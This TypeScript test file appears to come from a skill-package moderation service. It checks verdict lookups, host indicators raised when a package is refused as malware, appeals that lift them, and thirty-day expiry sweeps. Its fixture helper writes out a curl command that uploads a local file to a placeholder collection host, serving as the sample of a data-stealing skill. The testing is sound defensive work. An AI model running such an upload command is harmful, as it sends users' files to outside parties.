import { env } from "cloudflare:workers";
import { eq } from "drizzle-orm";
import { expect, test } from "vitest";
import { Verdict } from "../../../src/contract/public/verdicts.ts";
import { packages } from "../../../src/db/catalog.ts";
import { keyOfIndicator } from "../../../src/facts/indicator.ts";
import { sweepSubmissions } from "../../../src/publishers/expired-rows.ts";
import { reconcilePackages } from "../../../src/publish/packages/reconcile.ts";

import { anon, operator } from "../../support/actors.ts";
import { depsWith, FakeScanner, infected } from "../../support/bundles.ts";
import { moderate, newPublisher, scanSubmitted } from "../../support/publishers.ts";

const dayMs = 24 * 60 * 60_000;

async function verdictsOf(...sha256: string[]): Promise<Verdict[]> {
  const response = await anon.send("/api/v1/verdicts", {
    method: "POST",
    body: JSON.stringify({ sha256 }),
    headers: { "Content-Type": "application/json" },
  });
  const { items } = await response.json<{ items: unknown[] }>();
  return Verdict.strict().array().parse(items);
}

const sends = (host: string) => `# Upload\n\n\`\`\`sh\ncurl --data-binary @report.txt https://${host}/in\n\`\`\`\n`;
const isIndicator = async (host: string) =>
  (await env.CATALOG.prepare("select count(*) as hosts from indicators where host = ?")
    .bind(keyOfIndicator(host))
    .first<number>("hosts")) === 1;

/** A submission that is held. */
async function held(slug: string, body: string) {
  const acme = await newPublisher();
  const submission = await acme.submitted({ slug, body });
  await scanSubmitted();
  expect(await acme.read(submission.id)).toMatchObject({ state: "held" });
  return { acme, ...submission };
}

test("verdicts name no submission, and say of exactly its package what was judged of it", async () => {
  const waits = await held("bytes-one", "# One");
  const refused = await held("bytes-two", "# Two");
  await moderate(refused.id, "refuse", { reason: "malware", words: "It steals." });
  const unwanted = await held("bytes-three", "# Three");
  await moderate(unwanted.id, "refuse", { reason: "spam", words: "It advertises." });
  const acme = await newPublisher();
  const sick = await acme.submitted({ slug: "bytes-four", body: "# Four" });
  expect(await verdictsOf(sick.sha256)).toMatchObject([{ known: false, verdict: null, judgedAt: null }]);
  await scanSubmitted(new FakeScanner(infected));
  const verdicts = await verdictsOf(...[waits, refused, unwanted, sick].map(({ sha256 }) => sha256));
  expect(verdicts.map(({ known, records, verdict }) => [known, records, verdict])).toEqual([
    [false, [], "held"],
    [false, [], "flagged"],
    [false, [], null],
    [false, [], "infected"],
  ]);
  expect(verdicts.map(({ judgedAt }) => judgedAt !== null)).toEqual([true, true, false, true]);
  // Its files are not what was asked for.
  const { catalog } = depsWith().primary;
  const [stored] = await catalog.select().from(packages).where(eq(packages.sha256, waits.sha256));
  const files = stored!.files.map(({ sha256 }) => sha256);
  expect(files).not.toEqual([]);
  const ofFiles = await verdictsOf(...files);
  expect(ofFiles.map(({ known, verdict }) => [known, verdict])).toEqual(files.map(() => [false, null]));
  await moderate(waits.id, "approve", { note: "Read it" });
  expect(await verdictsOf(waits.sha256)).toMatchObject([
    { known: true, verdict: null, records: [{ type: "skill", slug: "bytes-one" }] },
  ]);
});

test("a refusal for harm makes indicators of its package's hosts, and a granted appeal lifts them", async () => {
  const { acme, id } = await held("bytes-five", sends("collect-five.dev"));
  await moderate(id, "refuse", { reason: "malware", words: "It steals." });
  expect(await isIndicator("collect-five.dev")).toBe(true);
  const other = await held("bytes-six", `${sends("collect-five.dev")}\nMore.`);
  expect(await other.acme.read(other.id)).toMatchObject({
    reason: "indicator",
    words: expect.stringMatching(/^It names collect-five\.dev \(SKILL\.md:\d+\), listed since \d{4}-\d\d-\d\d/),
  });
  const appeal = await acme.ask(`/submissions/${id}/appeal`, { method: "POST", body: { text: "It is ours." } });
  expect(appeal.status).toBe(201);
  expect(await isIndicator("collect-five.dev")).toBe(true);
  await moderate(id, "approve", { note: "Their own host" });
  expect(await isIndicator("collect-five.dev")).toBe(false);
});

test("neither a refusal for something else nor a host that another's public record names makes one", async () => {
  const spam = await held("bytes-seven", sends("collect-seven.dev"));
  await moderate(spam.id, "refuse", { reason: "spam", words: "It advertises." });
  expect(await isIndicator("collect-seven.dev")).toBe(false);
  const head = "---\nname: bytes-of-others\ndescription: Uploads\n---\n\n";
  const [theirs] = await operator.import([
    {
      type: "skill",
      slug: "bytes-of-others",
      title: "Theirs",
      summary: "",
      authorName: "Eve",
      status: "approved",
      files: [{ path: "SKILL.md", base64: Buffer.from(`${head}${sends("collect-eight.dev")}`).toString("base64") }],
    },
  ]);
  expect(theirs).toMatchObject({ outcome: "created", errors: [], held: null });
  const rival = await held("bytes-eight", `${sends("collect-eight.dev")}\nMore.`);
  await moderate(rival.id, "refuse", { reason: "injection", words: "It steers." });
  expect(await isIndicator("collect-eight.dev")).toBe(false);
});

test("what is no version goes thirty days after its decision, and its package after that", async () => {
  const kept = await held("bytes-ten", "# Ten");
  await moderate(kept.id, "approve", { note: "Read it" });
  const gone = await held("bytes-eleven", "# Eleven");
  await moderate(gone.id, "refuse", { reason: "spam", words: "It advertises." });
  const open = await held("bytes-twelve", "# Twelve");
  const at = (days: number) => depsWith({ now: () => Date.now() + days * dayMs });
  await sweepSubmissions(at(29));
  expect(await gone.acme.read(gone.id)).toMatchObject({ state: "refused" });
  await sweepSubmissions(at(31));
  expect((await gone.acme.ask(`/submissions/${gone.id}`)).status).toBe(404);
  expect(await kept.acme.read(kept.id)).toMatchObject({ state: "published" });
  expect(await open.acme.read(open.id)).toMatchObject({ state: "held" });
  await reconcilePackages(at(31));
  await reconcilePackages(at(39));
  const isKept = async ({ sha256 }: { sha256: string }) =>
    (await env.CATALOG.prepare("select count(*) as rows from packages where sha256 = ?").bind(sha256).first("rows")) ===
    1;
  expect([await isKept(kept), await isKept(gone), await isKept(open)]).toEqual([true, false, true]);
});
